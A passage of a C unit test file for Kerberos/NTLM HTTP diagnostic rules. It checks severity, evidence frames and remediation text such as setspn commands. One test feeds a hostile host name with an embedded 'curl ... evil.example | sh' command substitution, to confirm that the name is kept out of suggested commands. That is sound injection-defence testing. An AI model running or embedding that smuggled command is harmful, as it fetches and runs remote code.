/* check_rules_http.c - the HTTP Negotiate rules (rules_http_spn.c,
 * rules_http_token.c) on fact lists: ntlm-fallback, portless-spn,
 * ap-err-modified, cname-spn, auth-loop, token-too-large,
 * request-based-kerberos. Each rule: positive cases, the
 * near misses that must stay quiet, severity/confidence variants, precedence. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/arena.h"
#include "gss.h"
#include "krb5.h"
#include "krb5_decrypt.h"
#include "rulefix.h"
#include "stories.h"
#include "testutil.h"

#define C "10.0.0.10:40000"
#define CK "10.0.0.10:40001"
#define KDC "10.0.0.2:88"
#define WEB "10.0.0.20:80"
#define WEB8080 "10.0.0.20:8080"
#define PROXY8080 "10.0.0.24:8080"
#define DNSSRV "10.0.0.21:53"

/* ---- builders ------------------------------------------------------------ */

static struct kf_http_rec *get(struct kf_result *r, uint64_t f, uint32_t conn, const char *src,
			       const char *dst, const char *host, const char *scheme, uint32_t token,
			       uint32_t hdr)
{
	struct kf_http_rec *h = fx_http_rec(r, fx_http(r, f, KF_MSG_HTTP_REQUEST, conn, src, dst));
	h->method = "GET";
	h->uri = "/";
	h->host = host;
	h->auth_scheme = scheme;
	h->token_bytes = token;
	h->header_bytes = hdr ? hdr : 80;
	return h;
}

static struct kf_message *ap_req(struct kf_result *r, uint64_t f, uint32_t conn, const char *src,
				 const char *dst, const char *sname, uint32_t kvno)
{
	struct kf_message *m = fx_http(r, f, KF_KRB_AP_REQ, conn, src, dst);
	m->krb.ticket = fx_ticket(r, sname, "LAB.TEST", 18, kvno);
	return m;
}

static struct kf_message *krb_err_tok(struct kf_result *r, uint64_t f, uint32_t conn, const char *src,
				      const char *dst, int32_t code, uint64_t ap)
{
	struct kf_message *m = fx_http(r, f, KF_KRB_ERROR, conn, src, dst);
	m->krb.error_code = code;
	m->krb.sname = "HTTP/web.lab.test";
	m->krb.realm = "LAB.TEST";
	fx_link(r, ap, KF_KRB_AP_REQ, f, KF_KRB_ERROR);
	return m;
}

static void ap_rep_tok(struct kf_result *r, uint64_t f, uint32_t conn, const char *src, const char *dst,
		       uint64_t ap)
{
	fx_http(r, f, KF_KRB_AP_REP, conn, src, dst);
	fx_link(r, ap, KF_KRB_AP_REQ, f, KF_KRB_AP_REP);
}

/* kinit: AS-REQ/AS-REP in frames 1-2. */
static void kinit(struct kf_result *r)
{
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	struct kf_message *rep = fx_krb(r, 2, KF_KRB_AS_REP, KDC, CK);
	rep->krb.cname = "alice";
	rep->krb.crealm = "LAB.TEST";
	rep->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
	fx_link(r, 1, KF_KRB_AS_REQ, 2, KF_KRB_AS_REP);
}

/* TGS exchange for sname in frames f, f+1: a TGS-REP, or a KRB-ERROR code. */
static void tgs(struct kf_result *r, uint64_t f, const char *sname, int32_t err)
{
	fx_tgs(r, f, CK, KDC, sname, err);
}

static struct kf_spnego_rec *spnego(struct kf_result *r, struct kf_message *m, int state)
{
	m->spnego = kf_arena_zalloc(&r->arena, sizeof *m->spnego);
	if (state >= 0) {
		m->spnego->has_neg_state = true;
		m->spnego->neg_state = state;
	}
	return m->spnego;
}

/* NTLM legs on conn: NEGOTIATE at f → 401 CHALLENGE at f+1 → AUTHENTICATE at
 * f+2 → final at f+3. wrapped: inside SPNEGO under "Negotiate". */
static void ntlm_legs(struct kf_result *r, uint64_t f, uint32_t conn, const char *host, bool wrapped,
		      int final)
{
	const char *scheme = wrapped ? "Negotiate" : "NTLM";
	struct kf_message *n = fx_http(r, f, KF_MSG_NTLM_NEGOTIATE, conn, C, WEB);
	n->ntlm = kf_arena_zalloc(&r->arena, sizeof *n->ntlm);
	if (wrapped)
		spnego(r, n, -1);
	get(r, f, conn, C, WEB, host, scheme, 40, 200);
	struct kf_message *ch = fx_http(r, f + 1, KF_MSG_NTLM_CHALLENGE, conn, WEB, C);
	ch->ntlm = kf_arena_zalloc(&r->arena, sizeof *ch->ntlm);
	if (wrapped)
		spnego(r, ch, KF_NEG_ACCEPT_INCOMPLETE);
	fx_link(r, f, KF_MSG_NTLM_NEGOTIATE, f + 1, KF_MSG_NTLM_CHALLENGE);
	fx_http_resp(r, f + 1, conn, WEB, C, 401, scheme, NULL, f);
	struct kf_message *a = fx_http(r, f + 2, KF_MSG_NTLM_AUTHENTICATE, conn, C, WEB);
	a->ntlm = kf_arena_zalloc(&r->arena, sizeof *a->ntlm);
	a->ntlm->domain = "LAB";
	a->ntlm->user = "alice";
	if (wrapped)
		spnego(r, a, KF_NEG_ACCEPT_INCOMPLETE);
	get(r, f + 2, conn, C, WEB, host, scheme, 300, 500);
	fx_http_resp(r, f + 3, conn, WEB, C, final, final == 401 ? scheme : NULL, NULL, f + 2);
}

/* The story's HTTP outcome: NTLM's CHALLENGE in a 401 is a step, not a
 * rejection; a 405 after credentials is not a rejection either (WebDAV). */
START_TEST(t_story_http_ntlm_outcome)
{
	static const struct {
		int final;
		const char *outcome;
	} cases[] = { { 200, "ok" }, { 405, "unknown" }, { 401, "rejected" } };
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct kf_result *r = fx_new();
		ntlm_legs(r, 8, 3, "web.lab.test", false, cases[i].final);
		fx_finish(r);
		ck_assert_uint_ge(r->n_stories, 1);
		ck_assert_uint_eq(r->stories[0].n_http, 1);
		ck_assert_msg(!strcmp(r->stories[0].http[0].outcome, cases[i].outcome), "final %d: %s",
			      cases[i].final, r->stories[0].http[0].outcome);
		fx_free(r);
	}
}
END_TEST

/* The healthy 401-first flow: GET 8 → 401 10, TGS 12/13, GET+AP-REQ 14 → 200+AP-REP 15. */
static struct kf_result *healthy(const char *host, const char *server, const char *sname)
{
	struct kf_result *r = fx_new();
	kinit(r);
	get(r, 8, 3, C, server, host, NULL, 0, 0);
	fx_http_resp(r, 10, 3, server, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, sname, 0);
	ap_req(r, 14, 3, C, server, sname, 2);
	get(r, 14, 3, C, server, host, "Negotiate", 755, 1111);
	ap_rep_tok(r, 15, 3, server, C, 14);
	fx_http_resp(r, 15, 3, server, C, 200, "Negotiate", NULL, 14);
	return r;
}

/* The same with the AP-REQ answered by a 401 carrying a KRB-ERROR code. */
static struct kf_result *rejected(const char *host, const char *server, const char *sname, int32_t code)
{
	struct kf_result *r = fx_new();
	kinit(r);
	get(r, 8, 3, C, server, host, NULL, 0, 0);
	fx_http_resp(r, 10, 3, server, C, 401, "Negotiate", NULL, 8);
	tgs(r, 12, sname, 0);
	ap_req(r, 14, 3, C, server, sname, 2);
	get(r, 14, 3, C, server, host, "Negotiate", 755, 1111);
	spnego(r, krb_err_tok(r, 15, 3, server, C, code, 14), KF_NEG_REJECT);
	fx_http_resp(r, 15, 3, server, C, 401, "Negotiate", NULL, 14);
	return r;
}

/* ---- ntlm-fallback ------------------------------------------------------- */

/* Does member k of f's subject hold s? */
static bool subj_has(const struct kf_finding *f, enum kf_subject_kind k, const char *s)
{
	for (size_t i = 0; i < f->subject.n[k]; i++)
		if (strcmp(f->subject.v[k][i], s) == 0)
			return true;
	return false;
}

/* kinit, then a GET of host on server (frame 8) answered 401 (frame 10)
 * offering Negotiate, and NTLM when also_ntlm. */
static struct kf_result *challenged(const char *host, const char *server, bool also_ntlm)
{
	struct kf_result *r = fx_new();
	kinit(r);
	get(r, 8, 3, C, server, host, NULL, 0, 0);
	fx_http_resp(r, 10, 3, server, C, 401, "Negotiate", also_ntlm ? "NTLM" : NULL, 8);
	return r;
}

START_TEST(t_ntlm_principal_unknown)
{
	struct kf_result *r = challenged("web2.lab.test", WEB, true);
	tgs(r, 12, "HTTP/web2.lab.test", 7);
	tgs(r, 14, "HTTP/web2.lab.test", 7);
	ntlm_legs(r, 16, 3, "web2.lab.test", true, 200);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_WARNING), 1);
	/* the offer, both TGS exchanges, the NTLM legs and the answer to the AUTHENTICATE */
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "spn-unknown",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "10,12,13,14,15,16,17,18,19",
								     .client = "10.0.0.10",
								     .service = "HTTP/web2.lab.test@LAB.TEST",
								     .server = "10.0.0.20:80",
								     .kdc = "10.0.0.2" });
	/* wording: the command that registers the missing SPN */
	ck_assert(contains(f->remediation, "setspn -S HTTP/web2.lab.test"));
	/* the KDC errors are its evidence: no other finding on them (their subject joins it) */
	ck_assert_uint_eq(fx_count(r, NULL, KF_SEV_ERROR), 0);
	ck_assert(subj_has(f, KF_SUBJECT_USER, "LAB\\alice"));
	fx_free(r);
}
END_TEST

/* A Host from the capture that is no host name never goes into a suggested
 * command: the fix says <name> and shows the name quoted in a note; a
 * machine account's trailing $ and a plain name stay as they are. */
START_TEST(t_fix_hostile_name)
{
	static const char evil[] = "web$(curl${IFS}-s${IFS}evil.example|sh).lab.test";
	struct kf_result *r = challenged(evil, WEB, true);
	char sname[128];
	snprintf(sname, sizeof sname, "HTTP/%s", evil);
	tgs(r, 12, sname, 7);
	ntlm_legs(r, 16, 3, evil, true, 200);
	fx_finish(r);
	fx_run_all(r);
	const struct kf_finding *f = fx_find(r, "ntlm-fallback");
	ck_assert_ptr_nonnull(f);
	ck_assert_msg(!contains(f->remediation, "`setspn -S HTTP/web$(") &&
			      !contains(f->remediation, "curl${IFS}-s${IFS}evil.example|sh).lab.test`"),
		      "%s", f->remediation);
	ck_assert_msg(contains(f->remediation, "`setspn -S HTTP/<name> <account>`"), "%s", f->remediation);
	ck_assert_msg(contains(f->remediation,
			       "Note: the name \"web$(curl${ifs}-s${ifs}evil.example|sh).lab.test\""),
		      "%s", f->remediation);
	/* the other findings of the run carry no stale note */
	for (size_t i = 0; i < r->n_findings; i++)
		if (&r->findings[i] != f)
			ck_assert(!contains(r->findings[i].remediation, "Note: the name"));
	fx_free(r);

	r = challenged("web2.lab.test", WEB, true);
	tgs(r, 12, "HTTP/web2.lab.test", 7);
	ntlm_legs(r, 16, 3, "web2.lab.test", true, 200);
	fx_finish(r);
	fx_run_all(r);
	f = fx_find(r, "ntlm-fallback");
	ck_assert(contains(f->remediation, "`setspn -S HTTP/web2.lab.test <account>`") &&
		  !contains(f->remediation, "Note: the name"));
	fx_free(r);
}
END_TEST

START_TEST(t_ntlm_failed_is_error)
{
	struct kf_result *r = challenged("web2.lab.test", WEB, false);
	tgs(r, 12, "HTTP/web2.lab.test", 14);
	ntlm_legs(r, 16, 3, "web2.lab.test", true, 401);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_ERROR), 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "kdc-error",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "10,12,13,16,17,18,19",
								     .client = "10.0.0.10",
								     .user = "LAB\\alice",
								     .service = "HTTP/web2.lab.test@LAB.TEST",
								     .server = "10.0.0.20:80",
								     .kdc = "10.0.0.2" });
	/* wording: kdc-error is any KDC error; only the text names which one (frame 13's code) */
	ck_assert(contains(f->summary, "KDC_ERR_ETYPE_NOSUPP"));
	fx_free(r);
}
END_TEST

START_TEST(t_ntlm_plain_no_kdc)
{
	struct kf_result *r = fx_new();
	ntlm_legs(r, 4, 1, "web2.lab.test", false, 200);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	ck_assert_uint_eq(fx_count(r, "ntlm-fallback", KF_SEV_WARNING), 1);
	/* the NEGOTIATE, the AUTHENTICATE and its answer (the CHALLENGE's 401 offers nothing) */
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "no-kdc-traffic",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_LIKELY,
								     .frames = "4,6,7",
								     .client = "10.0.0.10",
								     .user = "LAB\\alice",
								     .service = "",
								     .server = "10.0.0.20:80",
								     .kdc = "" });
	/* wording: the command the user runs before retrying */
	ck_assert(contains(f->remediation, "klist purge"));
	fx_free(r);
}
END_TEST

/* NTLM to a forward proxy whose SPN is unknown: the proxy's name comes from
 * the TGS-REQ its 407 caused, never from the proxied site's Host. */
START_TEST(t_ntlm_proxy_spn_unknown)
{
	struct kf_result *r = fx_new();
	kinit(r);
	struct kf_http_rec *h = get(r, 8, 3, C, PROXY8080, "app.lab.test", NULL, 0, 0);
	h->uri = "http://app.lab.test/";
	fx_http_resp(r, 10, 3, PROXY8080, C, 407, "Negotiate", "NTLM", 8)->proxy = true;
	tgs(r, 12, "HTTP/proxy2.lab.test", 7);
	tgs(r, 14, "HTTP/proxy2.lab.test", 7);
	struct kf_message *n = fx_http(r, 16, KF_MSG_NTLM_NEGOTIATE, 3, C, PROXY8080);
	n->ntlm = kf_arena_zalloc(&r->arena, sizeof *n->ntlm);
	h = get(r, 16, 3, C, PROXY8080, "app.lab.test", "NTLM", 40, 200);
	h->uri = "http://app.lab.test/";
	h->proxy = true;
	struct kf_message *ch = fx_http(r, 17, KF_MSG_NTLM_CHALLENGE, 3, PROXY8080, C);
	ch->ntlm = kf_arena_zalloc(&r->arena, sizeof *ch->ntlm);
	fx_link(r, 16, KF_MSG_NTLM_NEGOTIATE, 17, KF_MSG_NTLM_CHALLENGE);
	fx_http_resp(r, 17, 3, PROXY8080, C, 407, "NTLM", NULL, 16)->proxy = true;
	struct kf_message *a = fx_http(r, 18, KF_MSG_NTLM_AUTHENTICATE, 3, C, PROXY8080);
	a->ntlm = kf_arena_zalloc(&r->arena, sizeof *a->ntlm);
	a->ntlm->domain = "LAB";
	a->ntlm->user = "alice";
	h = get(r, 18, 3, C, PROXY8080, "app.lab.test", "NTLM", 300, 500);
	h->uri = "http://app.lab.test/";
	h->proxy = true;
	fx_http_resp(r, 19, 3, PROXY8080, C, 200, NULL, NULL, 18);
	fx_finish(r);
	fx_run_all(r);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "spn-unknown",
								     .sev = KF_SEV_WARNING,
								     .server = PROXY8080 });
	ck_assert_msg(contains(f->summary, "the proxy 10.0.0.24:8080 (proxy2.lab.test)"), "%s", f->summary);
	ck_assert(contains(f->explanation, "The forward proxy at 10.0.0.24:8080 (proxy2.lab.test)"));
	ck_assert(contains(f->remediation, "HTTP/proxy2.lab.test"));
	ck_assert(!contains(f->summary, "app.lab.test") && !contains(f->remediation, "app.lab.test"));
	fx_free(r);
}
END_TEST

START_TEST(t_ntlm_server_offers_only_ntlm)
{
	struct kf_result *r = fx_new();
	get(r, 2, 1, C, WEB, "web2.lab.test", NULL, 0, 0);
	fx_http_resp(r, 3, 1, WEB, C, 401, "NTLM", NULL, 2);
	ntlm_legs(r, 4, 1, "web2.lab.test", false, 200);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
								     .cause = "server-offers-only-ntlm",
								     .sev = KF_SEV_WARNING,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "3,4,6,7",
								     .user = "LAB\\alice",
								     .server = "10.0.0.20:80" });
	/* wording: the setting that makes the server offer Negotiate */
	ck_assert(contains(f->remediation, "/+providers.[value='Negotiate']"));
	fx_free(r);
}
END_TEST

START_TEST(t_ntlm_ip_address)
{
	struct kf_result *r = challenged("10.0.0.20", WEB, true);
	ntlm_legs(r, 16, 3, "10.0.0.20", true, 200);
	fx_finish(r);
	fx_run(r, "ntlm-fallback");
	fx_expect(r, &(struct fx_want){ .rule = "ntlm-fallback",
					.cause = "ip-address",
					.sev = KF_SEV_WARNING,
					.conf = KF_CONF_LIKELY,
					.frames = "10,16,17,18,19",
					.client = "10.0.0.10",
					.user = "LAB\\alice",
					.service = "",
					.server = "10.0.0.20:80" });
	fx_free(r);
}
END_TEST

START_TEST(t_ntlm_not_on_kerberos)
{
	struct kf_result *r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- forward proxy (issue 18, item 4) ------------------------------------- */

/* GET http://app.lab.test/ through the proxy at server: 407, then the AP-REQ
 * for sname in Proxy-Authorization, answered 200 with an AP-REP, or 407 with
 * KRB-ERROR code.  uri_only: no 407 nor Proxy-* header, only the absolute
 * URI says it is a proxy (the answers are 401 / 200). */
static struct kf_result *proxied(const char *server, const char *sname, int32_t code, bool uri_only)
{
	int refused = uri_only ? 401 : 407;
	struct kf_result *r = fx_new();
	kinit(r);
	struct kf_http_rec *h = get(r, 8, 3, C, server, "app.lab.test", NULL, 0, 0);
	h->uri = "http://app.lab.test/";
	h = fx_http_resp(r, 10, 3, server, C, refused, "Negotiate", NULL, 8);
	h->proxy = !uri_only;
	tgs(r, 12, sname, 0);
	ap_req(r, 14, 3, C, server, sname, 2);
	h = get(r, 14, 3, C, server, "app.lab.test", "Negotiate", 755, 1111);
	h->uri = "http://app.lab.test/";
	h->proxy = !uri_only;
	if (code) {
		spnego(r, krb_err_tok(r, 15, 3, server, C, code, 14), KF_NEG_REJECT);
		h = fx_http_resp(r, 15, 3, server, C, refused, "Negotiate", NULL, 14);
	} else {
		ap_rep_tok(r, 15, 3, server, C, 14);
		h = fx_http_resp(r, 15, 3, server, C, 200, NULL, NULL, 14);
	}
	h->proxy = code && !uri_only;
	return r;
}

/* A key error at a proxy on :8080 is ap-err-modified for the proxy, named by
 * the ticket's host, never portless-spn for the proxied site; the absolute
 * URI alone is enough to tell a proxy. */
START_TEST(t_proxy_key_error_is_the_proxys)
{
	for (int uri_only = 0; uri_only < 2; uri_only++) {
		struct kf_result *r = proxied(PROXY8080, "HTTP/proxy.lab.test", 31, uri_only);
		fx_finish(r);
		fx_run_all(r);
		ck_assert_uint_eq(fx_count(r, "portless-spn", 0), 0);
		ck_assert_uint_eq(r->n_findings, 1);
		const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
									     .cause = "undetermined",
									     .sev = KF_SEV_ERROR,
									     .frames = "14,15",
									     .server = PROXY8080 });
		ck_assert_msg(contains(f->summary, "the proxy 10.0.0.24:8080 (proxy.lab.test) rejected"),
			      "%s", f->summary);
		ck_assert(contains(f->explanation, "The forward proxy at"));
		ck_assert(!contains(f->summary, "app.lab.test"));
		ck_assert(!contains(f->explanation, "app.lab.test"));
		fx_free(r);
	}
}
END_TEST

/* A working proxy on :8080 is healthy: no port-less info either.  Near miss:
 * the same exchange with a site on :8080 (no proxy marks) is portless-spn. */
START_TEST(t_proxy_healthy_silent)
{
	struct kf_result *r = proxied(PROXY8080, "HTTP/proxy.lab.test", 0, false);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	r = rejected("app.lab.test:8080", PROXY8080, "HTTP/app.lab.test", 31);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "portless-spn", KF_SEV_ERROR), 1);
	fx_free(r);
}
END_TEST

/* ---- portless-spn -------------------------------------------------------- */

START_TEST(t_portless_rejected_takes_ap_err)
{
	struct kf_result *r = rejected("web.lab.test:8080", WEB8080, "HTTP/web.lab.test", 31);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "portless-spn", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(fx_count(r, "ap-err-modified", 0), 0); /* folded into the root cause */
	ck_assert_uint_eq(r->n_findings, 1);
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "portless-spn",
								     .cause = "other-account",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "12,13,14,15",
								     .client = "10.0.0.10",
								     .user = "alice@LAB.TEST",
								     .service = "HTTP/web.lab.test@LAB.TEST",
								     .server = "10.0.0.20:8080",
								     .kdc = "10.0.0.2" });
	/* wording: the command registering the SPN with the port, the registry setting */
	ck_assert(contains(f->remediation, "setspn -S HTTP/web.lab.test:8080"));
	ck_assert(contains(f->remediation, "FEATURE_INCLUDE_PORT_IN_SPN_KB908209"));
	fx_free(r);
}
END_TEST

/* The site has no key at all for the port-less SPN: NOT_US (35) or NOKEY
 * (45) name the same cause (issue 18), and the generic finding folds in. */
START_TEST(t_portless_not_us_nokey)
{
	static const int32_t codes[] = { 35, 45 };
	for (size_t i = 0; i < 2; i++) {
		struct kf_result *r = rejected("web.lab.test:8080", WEB8080, "HTTP/web.lab.test", codes[i]);
		fx_finish(r);
		fx_run_all(r);
		ck_assert_uint_eq(r->n_findings, 1);
		const struct kf_finding *f = fx_find(r, "portless-spn");
		ck_assert_ptr_nonnull(f);
		ck_assert_str_eq(f->cause, "other-account");
		ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
		ck_assert_msg(contains(f->explanation, "has no key for that SPN at all"), "%s",
			      f->explanation);
		fx_free(r);
	}
}
END_TEST

/* A working site (AP-REP, 200) is info: nothing fails today (issue 18). */
START_TEST(t_portless_works_is_info)
{
	struct kf_result *r = healthy("web.lab.test:8080", WEB8080, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "portless-spn", KF_SEV_INFO), 1);
	ck_assert_uint_eq(fx_count(r, NULL, KF_SEV_ERROR), 0);
	ck_assert_uint_eq(fx_count(r, NULL, KF_SEV_WARNING), 0);
	fx_expect(r, &(struct fx_want){ .rule = "portless-spn",
					.cause = "same-account",
					.sev = KF_SEV_INFO,
					.conf = KF_CONF_CERTAIN,
					.frames = "12,13,14,15",
					.user = "alice@LAB.TEST",
					.service = "HTTP/web.lab.test@LAB.TEST",
					.server = "10.0.0.20:8080" });
	fx_free(r);
}
END_TEST

START_TEST(t_portless_near_misses)
{
	/* default port */
	struct kf_result *r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* the SPN has the port */
	r = healthy("web.lab.test:8080", WEB8080, "HTTP/web.lab.test:8080");
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* WinRM on 5985 uses HTTP/host by design: quiet when it works */
	r = healthy("srv.lab.test:5985", "10.0.0.20:5985", "HTTP/srv.lab.test");
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* ... but not when it is rejected */
	r = rejected("srv.lab.test:5985", "10.0.0.20:5985", "HTTP/srv.lab.test", 41);
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, "portless-spn", KF_SEV_ERROR), 1);
	ck_assert_str_eq(fx_find(r, "portless-spn")->cause, "other-account");
	fx_free(r);
	/* a clock-skew error on :8080 is not a key problem */
	r = rejected("web.lab.test:8080", WEB8080, "HTTP/web.lab.test", 37);
	fx_finish(r);
	fx_run(r, "portless-spn");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* ---- ap-err-modified ----------------------------------------------------- */

START_TEST(t_ap_err_badkeyver)
{
	struct kf_result *r = rejected("stale.lab.test", WEB, "HTTP/stale.lab.test", 44);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "ap-err-modified", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(r->n_findings, 1); /* not portless (port 80), not a loop (one attempt) */
	const struct kf_finding *f = fx_expect(
		r, &(struct fx_want){ .rule = "ap-err-modified",
				      .cause = "stale-kvno",
				      .sev = KF_SEV_ERROR,
				      .conf = KF_CONF_CERTAIN,
				      .frames = "14,15",
				      .client = "10.0.0.10",
				      .user = "alice@LAB.TEST", /* the TGS-REP's, not in the evidence */
				      .service = "HTTP/stale.lab.test@LAB.TEST",
				      .server = "10.0.0.20:80",
				      .kdc = "" });
	/* wording: the ticket's kvno (a field's value); the TGS-REP that issued the
	 * ticket, named but not evidence; the command that shows the keytab's kvno */
	ck_assert(contains(f->summary, "kvno 2"));
	ck_assert(contains(f->explanation, "frame 13"));
	ck_assert(contains(f->remediation, "klist -kte"));
	fx_free(r);
}
END_TEST

START_TEST(t_ap_err_modified_windows)
{
	struct kf_result *r = rejected("web.lab.test", WEB, "HTTP/web.lab.test", 41);
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	/* duplicate SPN, SPN on another account, or same kvno other key: the
	 * capture cannot tell without a keytab; that the service refused is certain */
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
								     .cause = "undetermined",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "14,15",
								     .service = "HTTP/web.lab.test@LAB.TEST",
								     .server = "10.0.0.20:80" });
	/* wording: the command finding the SPN's owner, the IIS setting */
	ck_assert(contains(f->remediation, "setspn -Q HTTP/web.lab.test"));
	ck_assert(contains(f->remediation, "useAppPoolCredentials"));
	fx_free(r);
}
END_TEST

START_TEST(t_ap_err_near_misses)
{
	/* MIT KDC: wrong password answered KRB_AP_ERR_BAD_INTEGRITY to an AS-REQ */
	struct kf_result *r = fx_new();
	fx_krb(r, 1, KF_KRB_AS_REQ, CK, KDC)->krb.cname = "alice";
	struct kf_message *e = fx_krb(r, 2, KF_KRB_ERROR, KDC, CK);
	e->krb.error_code = 31;
	e->krb.sname = "krbtgt/LAB.TEST";
	e->krb.e_text = "PREAUTH_FAILED";
	fx_link(r, 1, KF_KRB_AS_REQ, 2, KF_KRB_ERROR);
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
	/* healthy */
	r = healthy("web.lab.test", WEB, "HTTP/web.lab.test");
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

/* A token inside an application protocol is any carrier's but Kerberos' own
 * and DNS's: a carrier added later (kpasswd, SMB: here carrier 9, unknown
 * today) needs no rule edit.  Its KRB_AP_ERR_MODIFIED answering an AP-REQ is
 * a service's error, as over HTTP, not a KDC's. */
START_TEST(t_token_in_app_protocol)
{
	enum { NEW_CARRIER = 9 };
	struct kf_result *r = fx_new();
	struct kf_message *krb = fx_krb(r, 1, KF_KRB_TGS_REQ, C, KDC);
	struct kf_message *dns = fx_msg(r, 2, KF_CARRIER_DNS, KF_MSG_DNS, DNSSRV, C);
	struct kf_message *hq = fx_http(r, 3, KF_MSG_HTTP_REQUEST, 1, C, WEB);
	struct kf_message *ap = fx_http(r, 3, KF_KRB_AP_REQ, 1, C, WEB);
	struct kf_message *ntlm = fx_http(r, 3, KF_MSG_NTLM_NEGOTIATE, 1, C, WEB);
	ck_assert(!kf_msg_in_app_protocol(krb));
	ck_assert(!kf_msg_in_app_protocol(dns));
	ck_assert(!kf_msg_in_app_protocol(hq)); /* a record of the protocol, not a token */
	ck_assert(kf_msg_in_app_protocol(ap));
	ck_assert(kf_msg_in_app_protocol(ntlm));
	fx_free(r);

	r = fx_new();
	struct kf_message *q = fx_msg(r, 10, NEW_CARRIER, KF_KRB_AP_REQ, "10.0.0.10:40010", "10.0.0.30:464");
	q->connection = 7;
	q->krb.ticket = fx_ticket(r, "kadmin/changepw", "LAB.TEST", 18, 3);
	struct kf_message *e = fx_msg(r, 11, NEW_CARRIER, KF_KRB_ERROR, "10.0.0.30:464", "10.0.0.10:40010");
	e->connection = 7;
	e->krb.error_code = 41;
	fx_link(r, 10, KF_KRB_AP_REQ, 11, KF_KRB_ERROR);
	fx_finish(r);
	ck_assert(kf_msg_in_app_protocol(q) && kf_msg_in_app_protocol(e));
	struct kf_endpoint client;
	ck_assert(kf_message_client(e, &client)); /* it belongs to the client's story */
	ck_assert_uint_eq(client.addr[3], 10);
	fx_run(r, "ap-err-modified");
	const struct kf_finding *f = fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
								     .cause = "undetermined",
								     .sev = KF_SEV_ERROR,
								     .conf = KF_CONF_CERTAIN,
								     .frames = "10,11",
								     .client = "10.0.0.10",
								     .service = "kadmin/changepw@LAB.TEST",
								     .server = "10.0.0.30:464" });
	/* wording: a carrier other than HTTP is not called a web server */
	ck_assert(contains(f->explanation, "The service "));
	fx_free(r);
}
END_TEST

START_TEST(t_ap_err_tgs_from_kdc)
{
	/* The KDC cannot decrypt the TGT of a TGS-REQ, and the client does not recover. */
	struct kf_result *r = fx_new();
	kinit(r);
	tgs(r, 5, "HTTP/web.lab.test", 41);
	fx_finish(r);
	fx_run(r, "ap-err-modified");
	fx_expect(r, &(struct fx_want){ .rule = "ap-err-modified",
					.cause = "tgt-from-other-kdc", /* the KDC's own realm's TGT */
					.sev = KF_SEV_ERROR,
					.conf = KF_CONF_CERTAIN,
					.frames = "5,6",
					.client = "10.0.0.10",
					.user = "alice@LAB.TEST", /* the AS-REP that issued the TGT */
					.service = "krbtgt/LAB.TEST@LAB.TEST",
					.server = "",
					.kdc = "10.0.0.2" });
	fx_free(r);
}
END_TEST

/* ---- cname-spn ----------------------------------------------------------- */

static void dns_cname(struct kf_result *r, uint64_t f, const char *alias, const char *canon)
{
	struct kf_message *m = fx_msg(r, f, KF_CARRIER_DNS, KF_MSG_DNS, DNSSRV, "10.0.0.10:5353");
